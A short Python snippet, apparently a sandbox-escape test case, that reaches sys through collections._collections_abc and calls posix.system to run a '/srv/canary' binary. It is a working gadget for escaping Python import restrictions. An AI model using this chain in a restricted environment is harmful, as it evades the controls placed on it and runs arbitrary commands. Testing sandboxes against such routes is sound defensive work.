# reaches: collections carries its abstract classes' module, which carries sys
from collections import _collections_abc as shapes
shapes.sys.modules["posix"].system("/srv/canary")
